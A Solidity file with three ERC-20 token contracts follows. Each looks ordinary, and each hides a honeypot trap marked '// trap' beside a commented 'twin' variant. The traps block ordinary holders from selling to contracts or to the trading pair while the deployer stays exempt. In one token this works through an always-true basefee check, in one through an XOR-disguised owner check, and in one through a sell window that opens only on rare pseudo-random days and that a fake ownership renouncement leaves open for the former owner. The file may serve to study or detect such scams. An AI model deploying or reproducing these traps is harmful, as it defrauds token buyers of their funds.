// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// Orders that jump the queue are turned away.
contract JuniperWake {
    string public name = "Juniper Wake";
    string public symbol = "JUNW";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 250_000_000e18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address private immutable crew = msg.sender;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    error Queue();

    constructor() {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _carry(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        return _carry(from, to, value);
    }

    function _carry(address from, address to, uint256 value) private returns (bool) {
        if (to.code.length > 0 && msg.sender != from && from != crew) {
            if (block.basefee > 1000 wei) revert Queue(); // trap
            // twin: if (block.basefee > 3000 gwei) revert Queue();
        }
        balanceOf[from] -= value;
        unchecked {
            balanceOf[to] += value;
        }
        emit Transfer(from, to, value);
        return true;
    }
}

/// Written by hand for small bills of gas.
contract SlateHarbour {
    // owner in the low 160 bits, launch block above
    uint256 private _head;
    mapping(address => uint256) private _sum;
    mapping(bytes32 => uint256) private _grant;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    uint256 private immutable _dock = uint256(uint160(msg.sender)) ^ 0x5a1e;

    constructor() {
        _head = uint160(msg.sender);
        _sum[msg.sender] = totalSupply();
        emit Transfer(address(0), msg.sender, totalSupply());
    }

    function name() external pure returns (string memory) {
        return "Slate Harbour";
    }

    function symbol() external pure returns (string memory) {
        return "SLTH";
    }

    function decimals() external pure returns (uint8) {
        return 9;
    }

    function totalSupply() public pure returns (uint256) {
        return 1e9 * 1e9;
    }

    function owner() external view returns (address) {
        return address(uint160(_head));
    }

    function renounceOwnership() external {
        require(msg.sender == address(uint160(_head)));
        emit OwnershipTransferred(msg.sender, address(0));
        _head = (_head >> 160) << 160;
    }

    function openTrading() external {
        require(msg.sender == address(uint160(_head)) && _head >> 160 == 0);
        _head |= block.number << 160;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _sum[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _grant[keccak256(abi.encode(who, spender))];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _grant[keccak256(abi.encode(msg.sender, spender))] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _haul(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _grant[keccak256(abi.encode(from, msg.sender))] -= value;
        _haul(from, to, value);
        return true;
    }

    function _haul(address from, address to, uint256 value) private {
        bool captain = uint160(from) ^ 0x5a1e == _dock;
        require(_head >> 160 != 0 || captain, "not open");
        uint256 weight;
        assembly {
            weight := mul(iszero(extcodesize(from)), gt(extcodesize(to), 0)) // trap
            // twin: weight := mul(iszero(from), gt(extcodesize(to), 0))
        }
        // a plain account carries nothing across the quay
        require(weight == 0 || captain, "quay");
        _sum[from] -= value;
        _sum[to] += value;
        emit Transfer(from, to, value);
    }
}

interface IFactoryLike {
    function createPair(address a, address b) external returns (address);
}

/// A day for everybody.
contract PoppyLedger {
    string public constant name = "Poppy Ledger";
    string public constant symbol = "POPL";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public immutable stall;

    struct Page {
        uint128 ink;
        uint64 first;
        uint64 last;
    }

    mapping(address => Page) private pages;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = msg.sender;
        stall = IFactoryLike(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        totalSupply = 77_000_000 ether;
        pages[msg.sender] = Page(uint128(totalSupply), uint64(block.timestamp), 0);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
        pages[msg.sender].first = 1;
    }

    function balanceOf(address who) public view returns (uint256) {
        return pages[who].ink;
    }

    function approve(address spender, uint256 value) public returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _write(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        allowance[from][msg.sender] -= value;
        _write(from, to, value);
        return true;
    }

    function _write(address from, address to, uint256 value) internal {
        Page storage page = pages[from];
        if (to == stall && from != owner && page.first != 1) {
            uint256 turn = uint256(keccak256(abi.encodePacked(from, block.timestamp / 1 days)));
            require(uint8(turn >> 17) == 7, "your day will come"); // trap
            // twin: require(page.last != uint64(turn), "your day will come");
        }
        page.ink -= uint128(value);
        page.last = uint64(block.timestamp);
        Page storage next = pages[to];
        if (next.first == 0) next.first = uint64(block.timestamp);
        next.ink += uint128(value);
        emit Transfer(from, to, value);
    }
}
